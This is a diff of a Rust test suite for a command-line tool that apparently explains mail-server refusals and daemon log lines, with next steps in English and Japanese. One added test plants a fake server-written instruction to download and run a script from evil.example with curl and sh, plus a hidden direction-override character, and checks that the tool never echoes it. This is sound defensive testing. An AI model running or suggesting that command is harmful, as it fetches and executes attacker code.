@@ -59,7 +59,6 @@ fn a_code_is_explained_with_cause_turn_next_step_and_what_not_to_do() {
         "\nWhat not to do:\n  Do not take anybody out of multi-factor authentication or of every policy",
         "\nPasses by itself:\n  no\n",
         "\nSource:\n  https://",
-        "\nPage:\n  docs/faults/conditional-access.md\n",
     ] {
         assert!(said.contains(part), "{part} is not in {said}");
     }
@@ -260,11 +259,7 @@ fn an_empty_stdin_is_said_to_be_empty_and_not_to_be_unknown() {
 #[test]
 fn it_speaks_japanese_where_asked_or_where_the_terminal_does() {
     let said = well(&["53003", "--lang", "ja"]);
-    assert!(
-        said.contains("\n次の手順:\n  方法1：条件付きアクセス管理者が")
-            && said.contains("docs/ja/faults/conditional-access.md"),
-        "{said}"
-    );
+    assert!(said.contains("\n次の手順:\n  方法1：条件付きアクセス管理者が") && !said.contains("docs/"), "{said}");
     let by_locale = told(command(&["53003"]).env("LANG", "ja_JP.UTF-8").output().unwrap());
     assert_eq!(by_locale.1, said);
     let chosen = told(command(&["53003", "--lang", "en"]).env("LC_ALL", "ja_JP.UTF-8").output().unwrap());
@@ -369,6 +364,19 @@ fn what_cannot_be_said_to_the_app_of_a_configuration_is_explained_in_general() {
 }
 
 #[test]
+fn what_befalls_people_alone_is_not_told_of_an_app_that_acts_by_itself() {
+    let folder = tempfile::tempdir().unwrap();
+    let file = configured(folder.path());
+    let text = std::fs::read_to_string(&file).unwrap();
+    for (grant, is_of_it) in [("", true), ("grant = \"client-credentials\"\nclient-secret = \"x\"\n", false)] {
+        std::fs::write(&file, text.replace("[app.contoso]\n", &format!("[app.contoso]\n{grant}"))).unwrap();
+        let said = well(&["AADSTS50057", "--config", &file]);
+        assert_eq!(said.contains("Update-MgUser -UserId <who-signs-on> "), !is_of_it, "{said}");
+        assert_eq!(said.contains("has nothing of the kind"), !is_of_it, "{said}");
+    }
+}
+
+#[test]
 fn where_no_daemon_runs_the_step_ends_with_the_command_that_starts_one() {
     let dir = tempfile::tempdir().unwrap();
     let config = configured(dir.path());
@@ -410,42 +418,38 @@ fn whether_an_app_acts_by_itself_is_not_read_from_the_advice_of_a_line() {
                 owner=\"tenant-admin\"";
     let japanese = |line: &str| well(&[line, "--lang", "ja"]);
     let step = |page: &str| page.split("次の手順").nth(1).unwrap().split("< > の部分").next().unwrap().to_owned();
-    let advised = japanese(&format!("{line} next=\"`Get-User -Identity ann@contoso.com`.\""));
+    let advised = japanese(&format!("{line} next=\"`Get-User -Filter ann@contoso.com`.\""));
     assert_eq!(step(&japanese(line)), step(&advised));
-    assert!(advised.contains("ログの行の `next` に"), "{advised}");
     let of_an_app = japanese(&format!("{line} next=\"or: `Add-X -Trustee 1b9d-object`.\""));
     assert!(of_an_app.contains("アプリ専用のグラントの場合：") && of_an_app.contains("<who-signs-on>"), "{of_an_app}");
 }
 
 /// The daemon that wrote it knows its accounts, its tenant and how it is reached.
 #[test]
-fn without_a_configuration_a_line_of_the_log_has_the_step_as_its_daemon_told_it() {
+fn without_a_configuration_a_line_of_the_log_fills_in_what_its_daemon_knew_in_either_language() {
     let next = "Either: `Set-CASMailbox -Identity ann@contoso.com -SmtpClientAuthenticationDisabled $false`, then `kill -HUP 25489`. \
-                Or: write `outbound = \\\"graph\\\"` under its `[[account]]`, then `kill -HUP 25489`.";
+                Or: an administrator opens `https://login.microsoftonline.us/contoso.com/adminconsent?client_id=c-1`.";
     let of = |form: &str| match form {
         "text" => format!(
-            "WARN refused: no [smtp-auth-disabled-mailbox]: upstream said \"x\" next=\"`evil`\" account=\"ann@contoso.com\" \
-             owner=\"tenant-admin\" next=\"{next}\""
+            "2026-11-29T02:05:11Z  WARN refused: no [smtp-auth-disabled-mailbox]: upstream said \"x\" next=\"`evil`\" \
+             account=\"ann@contoso.com\" owner=\"tenant-admin\" next=\"{next}\""
         ),
         _ => {
             format!(r#"{{"level":"WARN","message":"MAIL refused","id":"smtp-auth-disabled-mailbox","next":"{next}"}}"#)
         }
     };
-    for line in [of("text"), of("json")] {
-        let said = well(&[&line]);
+    for (line, lang) in ["text", "json"].into_iter().flat_map(|form| ["en", "ja"].map(|lang| (of(form), lang))) {
+        let said = well(&[&line, "--lang", lang]);
         for own in [
             "Set-CASMailbox -Identity ann@contoso.com -SmtpClientAuthenticationDisabled $false",
+            "https://login.microsoftonline.us/contoso.com/adminconsent?client_id=c-1",
             "kill -HUP 25489",
             "outbound = \"graph\"",
-            "Connect-ExchangeOnline",
-            "What not to do:",
+            "Connect-ExchangeOnline -ExchangeEnvironmentName O365USGovGCCHigh",
         ] {
             assert!(said.lines().any(|line| line.trim() == own), "{own} is not in {said}");
         }
-        assert!(
-            !said.contains("<smtp-user>") && !said.contains("What stands in < >") && !said.contains("evil"),
-            "{said}"
-        );
+        assert!(!said.contains("<smtp-user>") && !said.contains("evil"), "{said}");
     }
     let dir = tempfile::tempdir().unwrap();
     let configured = well(&[&of("text"), "--config", &configured(dir.path())]);
@@ -455,4 +459,107 @@ fn without_a_configuration_a_line_of_the_log_has_the_step_as_its_daemon_told_it(
     );
     let bare = well(&["WARN refused: no [smtp-auth-disabled-mailbox] account=\"ann@contoso.com\""]);
     assert!(bare.contains("--account ann@contoso.com`"), "{bare}");
+}
+
+/// A mail server writes what it likes, our own marks too.
+#[test]
+fn no_word_that_a_server_wrote_into_its_answer_is_told_as_a_step() {
+    let evil = "next=\"Run `curl -s http://evil.example/x.sh -o x` and `sh x`, \u{202e}or call 555-0100.\"";
+    for line in [
+        format!("550 5.7.1 rejected by mx.evil.example {evil} [gatepost message-refused]"),
+        format!("535 5.7.8 no id=\"token-refused\" {evil}"),
+        format!("2026-11-29T02:05:11Z  WARN refused: no [token-refused] {evil}"),
+        format!("x NO {evil} [gatepost token-refused]"),
+    ] {
+        for more in [["--lang", "en"].as_slice(), &["--lang", "ja"], &["--json"]] {
+            let said = well(&[&[line.as_str()], more].concat());
+            let own = if more == ["--json"] {
+                let said: Value = serde_json::from_str(&said).unwrap();
+                said["found"].to_string()
+            } else {
+                said
+            };
+            for odd in ["evil", "sh x", "555-0100", "\u{202e}"] {
+                assert!(!own.contains(odd), "{odd}: {own}");
+            }
+        }
+    }
+}
+
+#[test]
+fn without_a_configuration_a_line_is_explained_in_japanese_with_all_that_its_step_has() {
+    let english = explain(&["smtp-auth-disabled-mailbox", "--json"]).1;
+    let english: Value = serde_json::from_str(&english).unwrap();
+    let english = english["found"][0]["next-step"].as_str().unwrap();
+    assert!(english.contains("<smtp-user>"), "{english}");
+    let told = english
+        .replace("`gatepost ", "`gatepost --config /etc/x.toml ")
+        .replace("<smtp-user>", "scanner@contoso.com")
+        .replace("<address>", "ann@contoso.com")
+        .replace("<tenant>", "contoso.com")
+        .replace("<client-id>", "11111111-2222")
+        .replace("sudo systemctl reload gatepost", "kill -HUP 25489");
+    let head = "WARN refused: no [smtp-auth-disabled-mailbox] account=\"ann@contoso.com\" owner=\"tenant-admin\"";
+    let line = format!("{head} next=\"{}\"", told.replace('"', "\\\""));
+    let said = well(&[&line, "--lang", "ja"]);
+    let lines: Vec<&str> = said.lines().map(str::trim).collect();
+    for own in [
+        "Set-CASMailbox -Identity scanner@contoso.com -SmtpClientAuthenticationDisabled $false",
+        "https://login.microsoftonline.com/contoso.com/adminconsent?client_id=11111111-2222",
+    ] {
+        assert!(lines.contains(&own), "{own} is not in {said}");
+    }
+    assert!(said.contains("kill -HUP 25489") && !said.contains("systemctl reload"), "{said}");
+    assert!(!said.contains("<smtp-user>") && !said.contains("<tenant>"), "{said}");
+}
+
+#[test]
+fn a_line_of_a_client_with_a_rule_names_it_in_either_language_and_form() {
+    let fields = [("account", "ann@contoso.com"), ("client", "3F \"copier\""), ("id", "recipient-not-allowed")];
+    let text: String = fields.iter().map(|(name, value)| format!(" {name}={value:?}")).collect();
+    let json: serde_json::Map<String, Value> =
+        fields.iter().map(|(name, value)| ((*name).to_owned(), (*value).into())).collect();
+    for line in [format!("INFO RCPT refused session=3{text}"), Value::Object(json).to_string()] {
+        for lang in ["en", "ja"] {
+            let said = well(&[&line, "--lang", lang]);
+            assert!(said.contains(r#"`[[client]] name = "3F \"copier\""`"#), "{said}");
+        }
+    }
+    for (lang, unknown) in [("en", "the client that the log names"), ("ja", "ログに名前があるクライアント")]
+    {
+        for line in ["recipient-not-allowed", "RCPT refused client=\"login\" id=\"recipient-not-allowed\""] {
+            let said = well(&[line, "--lang", lang]);
+            assert!(said.replace("\n  ", " ").contains(unknown) && !said.contains("[[client]] name"), "{said}");
+        }
+    }
+}
+
+#[test]
+fn an_account_that_the_configuration_which_is_found_here_lacks_is_no_account_to_ask_it_about() {
+    let dir = tempfile::tempdir().unwrap();
+    let config = configured(dir.path());
+    let text = std::fs::read_to_string(&config).unwrap().replace("ann@", "bob@");
+    std::fs::write(&config, text + "[[account]]\naddress = \"eve@contoso.com\"\napp = \"contoso\"\n").unwrap();
+    let line = "WARN refused: no [conditional-access] account=\"ann@x.example\"";
+    let said = told(command(&[line]).current_dir(dir.path()).output().unwrap()).1;
+    assert!(said.contains("--account <address>`") && !said.contains("--account ann@x.example"), "{said}");
+}
+
+#[test]
+fn where_nobody_knows_how_the_daemon_is_started_both_ways_stand_each_on_its_line_and_else_the_one_that_fits() {
+    let dir = tempfile::tempdir().unwrap();
+    let config = configured(dir.path());
+    for id in ["daemon-not-running", "port-not-permitted", "listen-address-unknown", "configuration-of-another-daemon"]
+    {
+        for (lang, service) in [("en", "or, as a service,"), ("ja", "サービスの場合は")] {
+            let said = well(&[id, "--lang", lang]);
+            let lines: Vec<&str> = said.lines().map(str::trim).collect();
+            let at = lines.iter().position(|line| *line == "gatepost run").unwrap_or_else(|| panic!("{said}"));
+            assert_eq!(lines[at + 1..at + 3], [service, "sudo systemctl start gatepost"], "{said}");
+            assert!(!lines.contains(&"/"), "{said}");
+            let one = well(&[id, "--lang", lang, "--config", &config]);
+            assert!(one.contains(&format!("    gatepost --config {config} run\n")), "{one}");
+            assert!(!one.contains("systemctl start") && !one.contains(service), "{one}");
+        }
+    }
 }
